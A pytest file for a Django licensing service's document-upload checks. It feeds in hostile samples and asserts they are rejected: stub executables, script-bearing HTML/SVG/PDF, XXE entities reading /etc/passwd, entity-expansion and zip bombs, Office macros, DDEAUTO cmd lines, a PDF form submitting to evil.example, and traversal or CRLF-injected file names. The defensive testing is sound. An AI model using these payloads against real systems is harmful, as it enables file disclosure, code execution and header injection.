"""A15: what is attached is judged by its content; what could run is refused, and what is kept no browser ever shows."""

from __future__ import annotations

import base64
import io
import tracemalloc
import zipfile
import zlib
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from django.conf import LazySettings
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter

from licensing.acts.documents.files import clean_name
from licensing.errors import Invalid
from licensing.models import Document
from tests import papers
from tests.abuse.walking import signed_in
from tests.api.calling import Caller, at
from tests.policy.requests.sheets.books import read
from tests.world import World


def archive(**parts: bytes | str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as packed:
        for name, content in parts.items():
            packed.writestr(name.replace("__", "/").replace("_xml", ".xml").replace("_bin", ".bin"), content)
    return out.getvalue()


def office(kind: str = "word", **more: bytes | str) -> bytes:
    """An archive that calls itself a Word or Excel document."""
    main = {"word": "word__document_xml", "xl": "xl__workbook_xml"}[kind]
    return archive(**{"[Content_Types]_xml": "<Types/>", "_rels/.rels": "<r/>", main: "<w/>"} | more)


def png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    size = width.to_bytes(4, "big") + height.to_bytes(4, "big")
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", size + b"\x08\x02\0\0\0")
        + chunk(b"IDAT", zlib.compress(b"\0" * 9))
        + chunk(b"IEND", b"")
    )


SCRIPT = "<script>alert(1)</script>"


@cache
def signer() -> papers.Person:
    return papers.Person("Olena Prykladna", papers.Person("Invented root"))


def flipped(content: bytes, at: bytes) -> bytes:
    """The same bytes but for one bit of a word that is in them."""
    place = content.index(at)
    return content[:place] + bytes([content[place] ^ 1]) + content[place + 1 :]


@cache
def refused() -> dict[str, bytes]:
    """What could run somewhere, by its first bytes or by its parts."""
    return {
        "program of Windows": b"MZ\x90\0\x03\0\0\0" + b"\0" * 64,
        "program of Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 64,
        "program of macOS": b"\xcf\xfa\xed\xfe" + b"\0" * 64,
        "class of Java": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 64,
        "web assembly": b"\0asm\x01\0\0\0" + b"\0" * 64,
        "link of Windows": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 64,
        "old Word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "rich text with an object": rb"{\rtf1{\object\objdata 0105}}",
        "page": f"<!doctype html>{SCRIPT}".encode(),
        "page after blanks": f"\n\t  <html>{SCRIPT}".encode(),
        "page after a mark": b"\xef\xbb\xbf<html>" + SCRIPT.encode(),
        "page in UTF-16": f"<html>{SCRIPT}".encode("utf-16"),
        "page in UTF-7": b"+ADw-script+AD4-alert(1)\x00",
        "drawing": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>".encode(),
        "drawing with a head": f"<?xml version='1.0'?><svg>{SCRIPT}</svg>".encode(),
        "entities": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        "laughs": b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>',
        "style sheet": b"<?xml-stylesheet href='//evil'?><a/>",
        "shortcut": b"[InternetShortcut]\0URL=http://evil",
        "zip": archive(a="b"),
        "zip of a zip": archive(a=archive(b="c")),
        "zip that unpacks to much": archive(a=b"\0" * 20_000_000),
        "rar": b"Rar!\x1a\x07\0" + b"\0" * 32,
        "seven zip": b"7z\xbc\xaf\x27\x1c" + b"\0" * 32,
        "gzip": b"\x1f\x8b\x08\0" + b"\0" * 32,
        "cabinet": b"MSCF\0\0\0\0" + b"\0" * 32,
        "disk image": b"\0" * 32769 + b"CD001" + b"\0" * 64,
        "film": b"\0\0\0\x18ftypmp42" + b"\0" * 64,
        "flash": b"CWS\x0a" + b"\0" * 64,
        "moving picture": b"GIF89a" + b"\0" * 64,
        "post script": b"%!PS-Adobe-3.0\x00 (x) run",
        "macro in Word": office(word__vbaProject_bin=b"\xd0\xcf\x11\xe0"),
        "macro in Excel": office("xl", xl__vbaProject_bin=b"\xd0\xcf\x11\xe0"),
        "control in Word": office(word__activeX__activeX1_bin=b"x"),
        "object in Word": office(word__embeddings__oleObject1_bin=b"MZ"),
        "old macro sheet": office("xl", xl__macrosheets__sheet1_xml="<m/>"),
        "program in Word": office(**{"word__media__run.exe": b"MZ"}),
        "Word that unpacks to much": office(word__media__a=b"\0" * 210_000_000),
        "Word of many parts": office(**{f"word__{number}": b"" for number in range(5_100)}),
        "Word cut short": office()[:-30],
        "page that is a zip too": f"<html>{SCRIPT}".encode() + archive(a="b"),
        "escape codes": b"\x1b]0;evil\x07 text",
        "text with a NUL": b"quiet\0text",
        "no text at all": bytes(range(256)),
        "half a character": b"text \xff\xfe text",
        "nothing": b"",
    }


def locked_pdf() -> bytes:
    writer, out = PdfWriter(clone_from=io.BytesIO(papers.pdf())), io.BytesIO()
    writer.encrypt("secret", algorithm="AES-256")
    writer.write(out)
    return out.getvalue()


_EXTERNAL = {"Target": "https://evil.example/x", "TargetMode": "External"}


@cache
def unfit() -> dict[str, tuple[str, bytes]]:
    """What may be a document by its kind, and cannot be opened, or does more than show itself."""
    pdf, olena = papers.pdf(), signer()
    return {
        "nine bytes of PDF": ("a.pdf", b"%PDF-1.7\n"),
        "half a PDF": ("a.pdf", pdf[: len(pdf) // 2]),
        "PDF without pages": ("a.pdf", papers.active_pdf("").replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")),
        "PDF with a password": ("a.pdf", locked_pdf()),
        "PDF that is a page of a loop": ("a.pdf", papers.active_pdf("").replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")),
        "PDF with a script": ("a.pdf", papers.active_pdf("/OpenAction <</S /JavaScript /JS (app.alert(1))>>")),
        "PDF with a hidden script": (
            "a.pdf",
            papers.active_pdf("/OpenAction 4 0 R", "<</S /J#61vaScript /J#53 (app.alert(1))>>"),
        ),
        "PDF with a script of its names": (
            "a.pdf",
            papers.active_pdf("/Names <</JavaScript <</Names [(a) 4 0 R]>>>>", "<</S /JavaScript>>"),
        ),
        "PDF that starts a program": ("a.pdf", papers.active_pdf("/OpenAction <</S /Launch /F (calc.exe)>>")),
        "PDF that sends a form": ("a.pdf", papers.active_pdf("/AA <</WC <</S /SubmitForm /F (https://evil.example)>>>>")),
        "PDF with a form of XML": ("a.pdf", papers.active_pdf("/AcroForm <</XFA [] /Fields []>>")),
        "PDF with a file inside": (
            "a.pdf",
            papers.active_pdf("/Names <</EmbeddedFiles <</Names [(a) 4 0 R]>>>>", "<</Type /Filespec /EF <<>>>>"),
        ),
        "PDF with a film": ("a.pdf", papers.active_pdf("/X 4 0 R", "<</Type /Annot /Subtype /RichMedia>>")),
        "PDF that opens another inside": ("a.pdf", papers.active_pdf("/OpenAction <</S /GoToE /T <<>>>>")),
        "three bytes of JPEG": ("a.jpg", b"\xff\xd8\xff"),
        "half a JPEG": ("a.jpg", papers.picture("JPEG", (400, 400))[:900]),
        "head of a PNG": ("a.png", papers.picture()[:20]),
        "half a PNG": ("a.png", papers.picture("PNG", (300, 300))[:-40]),
        "PNG of very many points": ("a.png", png(60_000, 60_000)),
        "half a TIFF": ("a.tif", papers.picture("TIFF", (200, 200))[:200]),
        "blank text": ("a.txt", b" \n\t "),
        "text of nothing visible": ("a.txt", "\u200b\u2800\u3164 \ufeff".encode()),
        "Word without its text": (
            "a.docx",
            office()[:0] + archive(**{"[Content_Types]_xml": "<Types/>", "word/other_xml": "<w/>"}),
        ),
        "Word with a remote template": (
            "a.docx",
            papers.word(**{"word/_rels/settings.xml.rels": papers.relations(Type="attachedTemplate", **_EXTERNAL)}),
        ),
        "Word with a remote object": (
            "a.docx",
            papers.word(**{"word/_rels/document.xml.rels": papers.relations(Type="oleObject", **_EXTERNAL)}),
        ),
        "Word with a remote picture": (
            "a.docx",
            papers.word(**{"word/_rels/document.xml.rels": papers.relations(Type="image", **_EXTERNAL)}),
        ),
        "Word that runs a command": (
            "a.docx",
            papers.word(
                **{"word/document.xml": '<w:document><w:instrText>DDEAUTO c:\\\\cmd "/k calc"</w:instrText></w:document>'}
            ),
        ),
        "Word with entities": ("a.docx", papers.word(**{"word/document.xml": '<!DOCTYPE x [<!ENTITY e "x">]><w>&e;</w>'})),
        "Excel with a live link": (
            "a.xlsx",
            papers.archive({"[Content_Types].xml": "<T/>", "xl/workbook.xml": "<w/>", "xl/externalLinks/e.xml": "<ddeLink/>"}),
        ),
        "program named as a signature": ("a.p7s", b"MZ\x90\0" + b"\0" * 60),
        "signature without its document": ("a.p7s", olena.sign(pdf, detached=True)),
        "signed document, one bit changed": ("a.p7s", flipped(olena.sign(b"I certify this."), b"certify")),
        "signed program": ("a.p7s", olena.sign(b"MZ\x90\0" + b"\0" * 60)),
        "signed page": ("a.p7s", olena.sign(b"<html><script>alert(1)</script>")),
        "signed PDF with a script": ("a.p7s", olena.sign(papers.active_pdf("/OpenAction <</S /JavaScript /JS (a)>>"))),
        "signature of a signature": ("a.p7s", olena.sign(olena.sign(pdf))),
        "signed nothing": ("a.p7s", olena.sign(b"")),
        "container, one file changed": ("a.asice", papers.altered(papers.container({"a.txt": b"one"}, olena), "a.txt", b"two")),
        "container of XML, one file changed": (
            "a.asice",
            papers.altered(papers.container({"a.txt": b"one"}, olena, way="xades"), "a.txt", b"two"),
        ),
        "container with one file changed": (
            "a.asics",
            papers.altered(papers.container({"a.txt": b"one"}, olena, kind="s"), "a.txt", b"two"),
        ),
        "container with a file that nobody signed": (
            "a.asice",
            papers.altered(papers.container({"a.txt": b"one"}, olena), "b.txt", b"two"),
        ),
        "container of XML with a file that nobody signed": (
            "a.asice",
            papers.altered(papers.container({"a.txt": b"one"}, olena, way="xades"), "b.txt", b"two"),
        ),
        "container without a signature": (
            "a.asice",
            papers.archive({"mimetype": "application/vnd.etsi.asic-e+zip", "a.txt": b"one"}, stored=("mimetype",)),
        ),
        "container without a file": (
            "a.asice",
            papers.archive({"mimetype": "application/vnd.etsi.asic-e+zip"}, stored=("mimetype",)),
        ),
        "container with a program": ("a.asice", papers.container({"run.exe": b"MZ\x90\0" + b"\0" * 60}, olena)),
        "container with text named as a program": ("a.asice", papers.container({"run.bat": b"echo hello"}, olena)),
        "container cut short": ("a.asice", papers.container({"a.txt": b"one"}, olena)[:-30]),
        "text named as a program": ("contract.bat", b"echo hello"),
        "text named as a script": ("run.ps1", b"Get-Item ."),
        "text named as a page": ("x.html", b"hello"),
        "text named as a link": ("x.url", b"[InternetShortcut]\nURL=http://evil"),
        "text named as a script of Visual Basic": ("x.vbs", b"MsgBox 1"),
        "text named as a PDF": ("x.pdf", b"Invented certificate"),
        "PDF named as a program": ("contract.pdf.exe", pdf),
        "picture named as another": ("photo.jpg", papers.picture()),
        "Excel named as Word": ("a.docx", papers.sheet()),
    }


@cache
def taken() -> dict[str, tuple[str, bytes]]:
    """What a request may hold: it is kept, and handed out only to be saved."""
    pdf, olena = papers.pdf(), signer()
    return {
        "plain document": ("a.pdf", pdf),
        "document with a link": ("a.pdf", papers.active_pdf("/X 4 0 R", "<</S /URI /URI (https://example.org)>>")),
        "document that is a page too": ("a.pdf", pdf + SCRIPT.encode()),
        "document with the ending in capitals": ("A.PDF", pdf),
        "document without an ending": ("certificate", pdf),
        "document with a number for an ending": ("Contract No. 7", pdf),
        "picture": ("a.png", papers.picture()),
        "photograph": ("a.jpeg", papers.picture("JPEG")),
        "scan": ("a.tiff", papers.picture("TIFF")),
        "picture that is a page too": ("a.png", papers.picture() + SCRIPT.encode()),
        "Word": ("a.docx", papers.word()),
        "Word with a link": (
            "a.docx",
            papers.word(**{"word/_rels/document.xml.rels": papers.relations(Type="hyperlink", **_EXTERNAL)}),
        ),
        "Excel": ("a.xlsx", papers.sheet()),
        "table with a formula": ("a.csv", b"name\n=HYPERLINK(1)"),
        "text about scripts": ("a.txt", f"He wrote {SCRIPT}.".encode()),
        "text in Ukrainian": ("сертифікат.txt", "Сертифікат кінцевого споживача".encode()),
        "signed document": ("a.p7s", olena.sign(pdf)),
        "signed text": ("a.p7s", olena.sign(b"I certify this.")),
        "container": ("a.asice", papers.container({"contract.pdf": pdf, "note.txt": b"Signed by all."}, olena)),
        "container signed in XML": ("a.asice", papers.container({"contract.pdf": pdf, "note.txt": b"Ok"}, olena, way="xades")),
        "container of one file": ("a.asics", papers.container({"contract.pdf": pdf}, olena, kind="s")),
    }


NAMES = {
    "../../etc/passwd": "passwd",
    "..\\..\\boot.ini": "boot.ini",
    "/etc/passwd": "passwd",
    "C:\\evil.pdf": "evil.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie: x=1.pdf",
    "\u200b\ufeff.pdf": "pdf",
    "...": "document",
    "": "document",
    "x" * 500 + ".pdf": "x" * 176 + ".pdf",
    "звіт.pdf": "звіт.pdf",
}  # fmt: skip


@pytest.fixture(autouse=True)
def _store(settings: LazySettings, tmp_path: Path) -> None:
    settings.MEDIA_ROOT = tmp_path


def attached(caller: Caller, case: Any, content: bytes, name: str = "certificate.pdf") -> Any:
    said = {"type": "other", "title": "It", "file_name": name, "content": base64.b64encode(content).decode()}
    return caller.post(at(case, "documents/"), said)


@pytest.mark.walk
def test_what_could_run_is_not_taken(world: World, tmp_path: Path) -> None:
    caller, case = Caller(world.paula), world.draft()
    assert len(refused()) + len(unfit()) + len(taken()) >= 100

    answers = {name: attached(caller, case, content).status_code for name, content in refused().items()}
    answers |= {name: attached(caller, case, content, called).status_code for name, (called, content) in unfit().items()}

    assert {name: status for name, status in answers.items() if status != 422} == {}
    assert (Document.objects.count(), [one for one in tmp_path.rglob("*") if one.is_file()]) == (0, [])


@pytest.mark.walk
def test_what_is_taken_is_only_ever_saved(world: World) -> None:
    caller, case, paula = Caller(world.paula), world.draft(), signed_in(world.paula)

    for name, (called, content) in taken().items():
        answer = attached(caller, case, content, called)
        assert (name, answer.status_code) == (name, 201)
        place = answer["Location"]
        for handed in (caller.get(place), paula.get(place.removeprefix("/api/v1"))):
            policy = handed["Content-Security-Policy"]
            assert handed.content == content
            assert handed["Content-Disposition"].startswith("attachment")
            assert (handed["X-Content-Type-Options"], "sandbox" in policy, "default-src 'none'" in policy) == (
                "nosniff",
                True,
                True,
            )


@pytest.mark.parametrize(("given", "kept"), NAMES.items(), ids=range(len(NAMES)))
def test_a_name_moves_nothing_and_hides_nothing(given: str, kept: str) -> None:
    assert clean_name(given) == kept


def test_the_form_of_the_portal_judges_alike(world: World) -> None:
    case, paula = world.draft(), signed_in(world.paula)
    for content in (refused()["page"], refused()["macro in Word"], refused()["program of Windows"]):
        sent = SimpleUploadedFile("../evil.pdf", content, "application/pdf")
        answer = paula.post(f"/cases/{case.pk}/draft/documents/", {"type": "other", "title": "It", "file": sent})
        assert answer.status_code == 422
    assert Document.objects.count() == 0


def _sheet(cells: str, head: str = "") -> bytes:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return archive(
        **{
            "[Content_Types]_xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
            f'<Override PartName="/xl/s.xml" ContentType="{kind}.worksheet+xml"/></Types>',
            "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{relation}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook_xml": f'<workbook {main} xmlns:r="{relation}"><sheets>'
            '<sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{relation}/worksheet" Target="s.xml"/></Relationships>',
            "xl/s_xml": f'{head}<worksheet {main}><sheetData><row r="1">{cells}</row></sheetData></worksheet>',
        }
    )


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
SHEETS = {
    "outer entity": _sheet("<c t='str'><v>&e;</v></c>", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "laughs": _sheet("<c t='str'><v>&l9;</v></c>", f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}]>'),
    "far cell": _sheet('<c r="XFD1048576" t="str"><v>name</v></c>'),
    "unpacks to much": archive(a=b"\0" * 50_000_000),
    "not a sheet": archive(a="b"),
    "cut short": _sheet("<c t='str'><v>name</v></c>")[:-40],
}


@pytest.mark.parametrize("content", SHEETS.values(), ids=SHEETS)
def test_no_sheet_reads_our_files_or_fills_our_memory(content: bytes) -> None:
    told: list[object] = []
    tracemalloc.start()
    try:
        # Refused as a whole, or read as a sheet of which nothing can be imported.
        told += read(content).problems
    except Invalid as refused:
        told += [gap.sentence for gap in refused.gaps]
    finally:
        _now, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()

    assert told
    assert "root:" not in str([str(one) for one in told])
    assert most < 128 * 1024 * 1024
